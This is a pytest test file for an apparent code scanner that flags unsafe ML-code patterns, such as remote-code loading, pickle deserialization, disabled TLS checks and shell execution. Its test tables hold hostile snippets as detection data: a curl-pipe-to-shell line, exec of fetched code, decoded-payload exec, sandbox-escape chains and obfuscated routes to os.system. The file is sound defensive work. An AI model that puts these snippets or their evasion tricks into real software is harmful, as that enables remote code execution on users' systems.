"""Our own rules on the syntax tree: code that each must see, must leave alone, and cannot read."""

import ast
import time

import pytest

from zt_gate.scan.code.name_resolution import NamesError
from zt_gate.scan.code.rules import RULES, apply_rules
from zt_gate.scan.code.source import SourceError, read_unit

FIRES = {
    "COD-101": [
        "m.from_pretrained('x', trust_remote_code=True)",
        "m.from_pretrained('a/b', trust_remote_code=True, revision='0123456789abcdef0123456789abcdef01234567')",
        "pipeline('x', trust_remote_code=flag)",
        "pipeline('x', trust_remote_code=1)",
        "kw = {'trust_remote_code': True}",
        "kw['trust_remote_code'] = True",
        "pipeline('x', **{'trust_remote_code': True})",
        "kw = dict(trust_remote_code=True)\npipeline('x', **kw)",
        "TRUST = True\ndef f():\n  return LLM(model='x', trust_remote_code=TRUST)",
        "kw = {}\nkw.update(trust_remote_code=True)",
        "kw.setdefault('trust_remote_' + 'code', True)",
        "setattr(config, 'trust_remote_code', True)",
        "config.trust_remote_code = True",
        "datasets.load_dataset('x', trust_remote_code=not False)",
    ],
    "COD-102": [
        "import torch\ntorch.load(f, weights_only=False)",
        "import torch as t\nt.load(f, weights_only=flag)",
        "from torch import load as l\nl(f, weights_only=0)",
        "from torch.serialization import load\nload(f, weights_only=False)",
        "import torch\ntorch.load(f, **{'weights_only': False})",
        "import torch\nkw = {'weights_only': False}\ntorch.load(f, **kw)",
        "import torch\ng = torch.load\ng(f, weights_only=False)",
        "import torch\na = torch\nb = a\nb.load(f, weights_only=False)",
        "from torch import *\nload(f, weights_only=False)",
        "import torch\nfrom functools import partial\npartial(torch.load, weights_only=False)",
        "import torch, json\nload = json.load\ndef f():\n  load = torch.load\nload(f, weights_only=False)",
        "import torch\ngetattr(torch, 'lo' + 'ad')(f, weights_only=False)",
        "import torch\nSAFE = False\ntorch.load(f, weights_only=SAFE)",
        "import torch\ntry:\n  torch.load(f, weights_only=True)\nexcept E:\n  torch.load(f, weights_only=False)",
    ],
    "COD-103": [
        "import torch\ntorch.hub.load('a/b', 'c')",
        "from torch import hub\nhub.load('.', 'c', source='local')",
        "import torch\nlist(map(torch.hub.load, names))",
    ],
    "COD-104": [
        "import pickle\npickle.loads(b)",
        "from pickle import Unpickler as U\nU(f).load()",
        "import joblib as j\nj.load(f)",
        "import dill\ndill.load(f)",
        "import cloudpickle\ncloudpickle.load(f)",
        "import pandas as pd\npd.read_pickle(f)",
        "getattr(__import__('pickle'), 'loads')(b)",
        "import importlib\nimportlib.import_module('pickle').load(f)",
        "import numpy as np\nnp.load(f, allow_pickle=True)",
        "from numpy import load\nload(f, None, True)",
        "import numpy as np\nargs = (f, None, True)\nnp.load(*args)",
        "import pickle, sys\nsys.modules['pickle'].loads(b)",
        "import pickle\npickle.__dict__['loads'](b)",
        "import pickle\nreaders = {'p': pickle.load}\nreaders['p'](f)",
        "import pickle\nclass A:\n  read = pickle.load\nA.read(f)",
        "import pickle\ndef f(read=pickle.load):\n  return read(x)",
        "import pickle\npool.submit(pickle.loads, b)",
    ],
    "COD-105": [
        "keras.models.load_model(p, safe_mode=False)",
        "keras.models.load_model(p, safe_mode=flag)",
        "import keras\nkeras.config.enable_unsafe_deserialization()",
        "kw = {'safe_mode': False}\nload_model(p, **kw)",
    ],
    "COD-106": [
        "import mlflow\nmlflow.set_tracking_uri('http://ml.example:5000')",
        "from mlflow import MlflowClient\nMlflowClient(tracking_uri='HTTP://ml.example')",
        "import mlflow\nmlflow.set_tracking_uri(uri='http://localhost.evil.example')",
        "os.environ['MLFLOW_TRACKING_URI'] = 'http://ml.example'",
        "import mlflow\nURI = 'http://' + 'ml.example'\nmlflow.set_tracking_uri(URI)",
        "import mlflow\nmlflow.set_tracking_uri(f'http://{host}:5000')",
        "import mlflow\nmlflow.set_tracking_uri('http://%s' % 'ml.example')",
        "import os\nos.environ.setdefault('MLFLOW_TRACKING_URI', 'http://ml.example')",
    ],
    "COD-107": [
        "import os\nos.system('true')",
        "import subprocess\nclass A:\n  x = subprocess.run(['true'])",
        "import os\ndef f(x=os.system('true')): pass",
        "import os\n@os.system\ndef f(): pass",
        "import os\nif __name__ == '__main__': pass\nelse: os.system('true')",
        "import os\nif __name__ != '__main__': os.system('true')",
        "import os\nos.execvpe('true', ['true'], {})",
    ],
    "COD-108": [
        "def f(): eval(x)",
        "import builtins\ndef f(): builtins.exec(x)",
        "from builtins import exec as run\ndef f(): run(x)",
        "import marshal\ndef f(): marshal.loads(b)",
        "def f(): globals()['ev' + 'al'](x)",
        "def f(): __builtins__['exec'](x)",
        "def f(): list(map(eval, x))",
    ],
    "COD-111": ["import torch\ntorch.load(f)", "from torch import load as l\nl(f, 'cpu')"],
    "COD-112": [
        "AutoModel.from_pretrained('google-bert/bert-base')",
        "AutoModel.from_pretrained('google-bert/bert-base', revision='main')",
        "NAME = 'google-bert/bert-base'\nAutoModel.from_pretrained(NAME)",
        "from datasets import load_dataset as d\nd('a/b', split='train')",
        "hf_hub_download(repo_id='a/b', filename='c')",
    ],
    "COD-113": [
        "import torch\ntorch.serialization.add_safe_globals([Thing])",
        "from torch.serialization import safe_globals\nwith safe_globals([Thing]): pass",
    ],
    "COD-114": ["import torch\ntorch.jit.load(f)", "from torch.package import PackageImporter as P\nP(f)"],
    "COD-115": [
        "import ctypes\ndef f(): ctypes.CDLL('x.so')",
        "def f(): torch.ops.load_library('x.so')",
        "def f(options): options.register_custom_ops_library('x.so')",
        "from ctypes import cdll\ndef f(): cdll.LoadLibrary('x.so')",
    ],
    "COD-116": [
        "import hydra\nhydra.utils.instantiate(cfg)",
        "from hydra.utils import instantiate as i\ni(cfg.model)",
        "import pydoc\npydoc.locate(name)",
    ],
    "COD-117": ["import importlib\nimportlib.import_module(name)", "__import__(cfg['module'])"],
    "COD-118": [
        "import grpc\ngrpc.insecure_channel('models.example:50051')",
        "from grpc import insecure_channel as c\nc(address)",
        "server.add_insecure_port('0.0.0.0:50051')",
        "add = server.add_insecure_port\nadd('[::]:50051')",
        "import grpc\ngrpc.aio.insecure_channel(f'{host}:50051')",
    ],
    "COD-119": [
        "import requests\nrequests.get(url, verify=False)",
        "session.get(url, verify=False)",
        "import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
        "import ssl\nctx.verify_mode = ssl.CERT_NONE",
        "ctx.check_hostname = False",
        "import urllib3\nurllib3.PoolManager(cert_reqs='CERT_NONE')",
        "import requests\nCHECK = False\nrequests.get(url, **{'verify': CHECK})",
    ],
    "COD-121": [
        "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'",
        "import os\nos.environ.update({'HF_DATASETS_TRUST_REMOTE_CODE': 'true'})",
        "import os\nos.environ.update(MLFLOW_TRACKING_INSECURE_TLS='true')",
        "import os\nos.putenv('PYTHONHTTPSVERIFY', '0')",
        "import os\nos.environ.setdefault('VLLM_ALLOW_INSECURE_' + 'SERIALIZATION', '1')",
        "env = {'LD_PRELOAD': path}",
    ],
    "COD-122": [
        "import requests\ndef f(): exec(requests.get(u).text)",
        "from urllib.request import urlopen\ndef f():\n  with urlopen(u) as r:\n    text = r.read()\n  exec(text)",
        "import requests\ndef get(): return requests.get(u).content\ndef f(): eval(get())",
    ],
    "COD-123": [
        "import subprocess, sys\ndef f(): subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
        "import os\ndef f(): os.system('pip install x')",
        "import pip\ndef f(): pip.main(['install', 'x'])",
        "import os\ndef f(): os.execlp('pip', 'pip', 'install', 'x')",
    ],
    "COD-124": [
        "import os\ndef f(): os.system('pip install git+https://example.org/x')",
        "import subprocess\ndef f(): subprocess.run(['pip', 'install', '--index-url', url, 'x'])",
        "import os\ndef f(): os.system('curl -s https://example.org/x.sh | sh')",
    ],
    "COD-125": ["import socket\ndef f(): socket.create_connection(a)", "from socket import socket as s\ndef f(): s()"],
    "COD-126": [],  # needs to know what the release admits; test_rules.py
    "COD-127": [
        "import torch.distributed.rpc as rpc\nrpc.init_rpc('a')",
        "from multiprocessing.connection import Listener\nListener(a)",
        "socket.recv_pyobj()",
    ],
    "COD-128": ["demo.launch(share=True)", "from pyngrok import ngrok\nngrok.connect(80)"],
    "COD-129": [
        "import mlflow\nmlflow.pyfunc.load_model(uri)",
        "from mlflow.pyfunc import load_model as l\nl('models:/m@champion')",
    ],
    "COD-130": [
        "client.set_registered_model_alias('m', 'champion', 3)",
        "client.transition_model_version_stage('m', 3, 'Production')",
    ],
    "COD-131": ["import jinja2\njinja2.Environment()", "from jinja2 import Template\nTemplate(text).render()"],
    "COD-132": ["import tensorflow as tf\ntf.saved_model.load(p)", "from keras.layers import Lambda\nLambda(f)"],
    "COD-133": [
        "import yaml\nyaml.load(f)",
        "import yaml\nyaml.load(f, Loader=yaml.UnsafeLoader)",
        "from yaml import unsafe_load as l\nl(f)",
        "from ruamel.yaml import YAML\nYAML(typ='unsafe')",
    ],
    "COD-134": [
        "import sys\nsys.path.insert(0, p)",
        "from importlib.util import spec_from_file_location as s\ns('m', p)",
    ],
    "COD-135": [
        "import torch\ntorch.hub.load_state_dict_from_url('http://example.org/w.pt')",
        "from urllib.request import urlretrieve\nBASE = 'http://example.org'\nurlretrieve(BASE + '/w.pt')",
    ],
    "COD-136": [
        "import base64\ndef f(): exec(base64.b64decode(x))",
        "import zlib, os\ndef f():\n  y = zlib.decompress(x)\n  os.system(y)",
        "().__class__.__base__.__subclasses__()",
    ],
}

REACHES_SYSTEM = [
    "import shutil\nshutil.os.system(x)", "import numpy as np\nnp.f2py.os.system(x)",
    "from shutil import os\nos.system(x)", "from logging import os as o\no.system(x)",
    "import pandas as pd\npd.io.common.os.system(x)", "import shutil\nf = shutil.sys.modules['os'].system\nf(x)",
    "import operator, os\noperator.methodcaller('system', x)(os)",
    "from operator import methodcaller as m\nimport os\nf = m('system', x)\nf(os)",
    "import operator, shutil\noperator.attrgetter('os.system')(shutil)(x)",
    "import functools, shutil\nfunctools.reduce(getattr, ['os', 'system'], shutil)(x)",
    "import pkgutil\npkgutil.resolve_name('os:system')(x)", "import pydoc\npydoc.locate('os.system')(x)",
    "import sys\nsys._getframe().f_builtins['__import__']('os').system(x)",
    "def g(): pass\ng.__globals__['os'].system(x)",
    "try: 1/0\nexcept Exception as e: e.__traceback__.tb_frame.f_builtins['__import__']('os').system(x)",
]  # fmt: skip
FIRES["COD-107"] += [
    *REACHES_SYSTEM, "import timeit\ntimeit.timeit('x', number=1)", "import cProfile as c\nc.run('f()')",
    "import pdb\npdb.Pdb().run('x')", "import pandas as pd\npd.eval('x')", "import gc\ngc.get_objects()",
    "import code\ncode.InteractiveConsole().push(x)",
]  # fmt: skip
FIRES["COD-120"] = [
    "get_ipython().system('x')", "from IPython import get_ipython as g\nip = g()\nip.run_cell_magic('bash', '', 'x')",
    "get_ipython().run_line_magic('sx', 'x')",
]  # fmt: skip
FIRES["COD-138"] = [
    "f({'x': {'()': 'os.system', 'command': 'true'}})", "c = {'class': 'subprocess.' + 'Popen'}",
    "f(target='os.popen')",
]  # fmt: skip
FIRES["COD-139"] = ["open(p, 'a').write('x')"]
FIRES["COD-139"] += ["import io\nio.open(p, mode='r+b')", "from pathlib import Path\nPath(p).write_text('x')"]
FIRES["COD-137"] = ["import os\ndef f(): os.system(x)", "from subprocess import run as r\ndef f(): r(x, shell=True)"]

CLEAN = {
    "COD-101": [
        "m.from_pretrained('x', trust_remote_code=False)",
        "m.from_pretrained('x')",
        "f(trust_remote_code=None)",
        "T = False\nf(trust_remote_code=T)",
    ],
    "COD-102": [
        "import torch\ntorch.load(f, weights_only=True)",
        "import json\njson.load(f, weights_only=False)",
        "import torch\nW = True\ntorch.load(f, weights_only=W)",
    ],
    "COD-103": ["import torch\ntorch.hub.get_dir()", "import torch\nisinstance(x, torch.hub.load)"],
    "COD-104": [
        "import pickle\npickle.dumps(x)",
        "import json\njson.load(f)",
        "import numpy as np\nnp.load(f)",
        "import numpy as np\nnp.load(f, allow_pickle=False)",
    ],
    "COD-105": ["keras.models.load_model(p, safe_mode=True)", "x.safe_mode = False"],
    "COD-106": [
        "import mlflow\nmlflow.set_tracking_uri('https://ml.example')",
        "import mlflow\nmlflow.set_tracking_uri('http://localhost:5000')",
        "import mlflow\nmlflow.set_tracking_uri('http://127.0.0.1:5000/x')",
        "import requests\nrequests.get('http://ml.example')",
    ],
    "COD-107": [
        "import os\ndef f(): os.system('true')",
        "import os\nx = lambda: os.system('true')",
        "import subprocess, functools\nrun = functools.partial(subprocess.run, check=True)",
        "import os\nif __name__ == '__main__': os.system('true')",
    ],
    "COD-108": [
        "model.eval()",
        "import re, torch\nre.compile(x)\ntorch.compile(m)",
        "import ast\nast.literal_eval(x)",
        "f(compile=compile)",
        "import types\nisinstance(x, types.FunctionType)",
    ],
    "COD-111": ["import torch\ntorch.load(f, weights_only=True)", "import torch\ntorch.save(x, f)"],
    "COD-112": [
        "AutoModel.from_pretrained('./local')",
        "AutoModel.from_pretrained(folder)",
        "AutoModel.from_pretrained('a/b', revision='0123456789abcdef0123456789abcdef01234567')",
    ],
    "COD-113": ["import torch\ntorch.serialization.get_safe_globals()"],
    "COD-114": ["import torch\ntorch.jit.script(m)"],
    "COD-115": ["import ctypes\nctypes.c_int(3)", "import ctypes\ndef f(): ctypes.CDLL(None)"],
    "COD-116": ["import hydra\nhydra.initialize()", "import pydoc\npydoc.locate('os.path.join')"],
    "COD-117": ["import importlib\nimportlib.import_module('json')", "M = 'json'\n__import__(M)"],
    "COD-118": [
        "import grpc\ngrpc.insecure_channel('localhost:50051')",
        "import grpc\ngrpc.secure_channel(a, creds)",
        "server.add_insecure_port('127.0.0.1:0')",
        "import grpc\ngrpc.insecure_channel('unix:/run/x')",
    ],
    "COD-119": [
        "import requests\nrequests.get(url, verify=True)",
        "import requests\nrequests.get(url, verify='ca.pem')",
        "import ssl\nctx.verify_mode = ssl.CERT_REQUIRED",
        "verify = False",
    ],
    "COD-121": [
        "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '0'",
        "import os\nos.environ['HOME'] = 'x'",
        "import os\nos.environ.get('LD_PRELOAD')",
        "import os\nos.environ['REQUESTS_CA_BUNDLE'] = '/etc/ca.pem'",
    ],
    "COD-122": ["import requests\ndef f(): return requests.get(u).json()"],
    "COD-123": ["import subprocess\ndef f(): subprocess.run(['git', 'status'])", "print('pip install x')"],
    "COD-124": ["import subprocess\ndef f(): subprocess.run(['curl', '--version'])"],
    "COD-125": ["import socket\nsocket.gethostname()"],
    "COD-126": ["import torch\ntorch.load(f, weights_only=True)"],
    "COD-127": ["import torch.distributed as d\nd.all_reduce(x)"],
    "COD-128": ["demo.launch()", "demo.launch(share=False)"],
    "COD-129": ["import mlflow\nmlflow.log_metric('a', 1)", "load_model(p)"],
    "COD-130": ["client.get_model_version('m', 3)", "client.transition_model_version_stage('m', 3, 'Archived')"],
    "COD-131": [
        "from jinja2.sandbox import SandboxedEnvironment as E\nE()",
        "from jinja2 import Template\nTemplate('a')",
    ],
    "COD-132": ["import tensorflow as tf\ntf.constant(1)"],
    "COD-133": [
        "import yaml\nyaml.safe_load(f)",
        "import yaml\nyaml.load(f, Loader=yaml.SafeLoader)",
        "from ruamel.yaml import YAML\nYAML(typ='safe')",
    ],
    "COD-134": ["import sys\nprint(sys.path)"],
    "COD-135": ["import torch\ntorch.hub.load_state_dict_from_url('https://example.org/w.pt')"],
    "COD-136": ["import base64\nbase64.b64decode(x)", "A.__subclasses__()"],
    "COD-120": ["import platform\nplatform.system()", "str(get_ipython())", "get_ipython().user_ns"],
    "COD-138": ["f({'class': 'logging.StreamHandler'})", "c = {'other': 'os.system'}", "f(target=os.getcwd)"],
    "COD-139": ["open(p)", "open(p, 'rb')", "def f(): open(p, 'w')", "if __name__ == '__main__':\n    open(p, 'w')"],
    "COD-137": ["import os\nos.getcwd()", "import subprocess\nsubprocess.PIPE"],
}

IDS = [rule.id for rule in RULES]


def rules_of(code, torch=()):
    return {hit.rule for hit in apply_rules(ast.parse(code), torch)}


@pytest.mark.parametrize(("rule", "code"), [(rule, code) for rule, codes in FIRES.items() for code in codes])
def test_seen(rule, code):
    assert rule in rules_of(code)


@pytest.mark.parametrize(("rule", "code"), [(rule, code) for rule, codes in CLEAN.items() for code in codes])
def test_left_alone(rule, code):
    assert rule not in rules_of(code)


@pytest.mark.parametrize("rule", IDS)
def test_what_cannot_be_read_is_never_a_pass(rule):
    code = (FIRES[rule] or CLEAN[rule])[0] + "\ndef ("
    with pytest.raises(SourceError, match="not Python"):
        read_unit("a.py", code.encode())


@pytest.mark.parametrize("rule", IDS)
def test_every_rule_has_its_examples(rule):
    assert CLEAN[rule]
    assert FIRES[rule] or rule == "COD-126"


def test_what_torch_load_means_depends_on_what_the_release_admits():
    code = "import torch\ntorch.load(f)"
    assert rules_of(code) == {"COD-111"}
    assert rules_of(code, (2, 5, 1)) == {"COD-102"}
    assert rules_of(code, (2, 10)) == {"COD-111"}
    safe = "import torch\ntorch.load(f, weights_only=True)"
    assert rules_of(safe) == rules_of(safe, (2, 10)) == set()
    assert rules_of(safe, (2, 5)) == rules_of(safe, (2, 9, 1)) == {"COD-126"}


@pytest.mark.parametrize("code", ["eval(x)", "x = __import__('builtins').eval('1')"])
def test_what_turns_data_into_code_on_import_is_worse(code):
    assert rules_of(code) == {"COD-107", "COD-108"}


def test_hidden_code_that_runs_on_import_is_told_three_times():
    assert rules_of("import marshal\nexec(marshal.loads(b))") == {"COD-107", "COD-108", "COD-136"}


@pytest.mark.parametrize("call", ["ctypes.CDLL('x.so')", "torch.ops.load_library('x.so')"])
def test_native_code_is_worse_on_import(call):
    assert rules_of(f"import ctypes, torch\n{call}") == {"COD-107", "COD-115"}
    assert rules_of(f"import ctypes, torch\ndef f(): {call}") == {"COD-115"}


def test_a_name_without_end_is_bounded():
    code = "x = a\n" + "x = x.b\n" * 300 + "import os\ny = os\ny.system('true')"
    assert rules_of(code) == {"COD-107"}


def test_an_alias_is_followed_however_long_its_chain():
    chain = "".join(f"a{number} = a{number - 1}\n" for number in range(40, 0, -1))
    assert "COD-107" in rules_of(f"import os\n{chain}a0 = os\na40.system('true')")


def test_a_name_with_many_meanings_is_followed_all_the_same():
    code = "import os\nx = os\n" + "".join(f"x = x.a{number}\n" for number in range(300)) + "x.system('true')"
    assert rules_of(code) == {"COD-107"}


def test_names_that_are_handed_on_beyond_what_is_followed_are_a_gap():
    code = "import os\n" + "".join(f"a{number} = a{number - 1}\n" for number in range(1, 500)) + "a0 = os\n"
    with pytest.raises(NamesError):
        apply_rules(ast.parse(code))
    with pytest.raises(SourceError, match="handed on"):
        read_unit("a.py", code.encode()).hits()


def test_keywords_that_are_handed_on_are_followed_to_an_end():
    code = (
        "kw = {'trust_remote_code': True}\nkw = {**kw, 'a': 1}\nmore = dict(kw, b=2)\ndef f(**kw): g(**kw)\nf(**more)\n"
    )
    assert [hit.line for hit in apply_rules(ast.parse(code))] == [1, 4, 5]


def test_containers_that_hold_themselves_come_to_an_end():
    assert rules_of("d = {}\nd['a'] = d['a'](d['b'](d))\nd['b'] = d['a']\nx = [x]\nx = x[0](x)\n") == set()


def test_text_that_names_build_from_each_other_is_worked_out_once():
    names = [f"n{index}" for index in range(12)]
    lines = [f"{name} = {other} + {name}" for name in names for other in names]
    start = time.process_time()
    apply_rules(ast.parse("\n".join([*lines, "table[n0]()"])))
    assert time.process_time() - start < 5
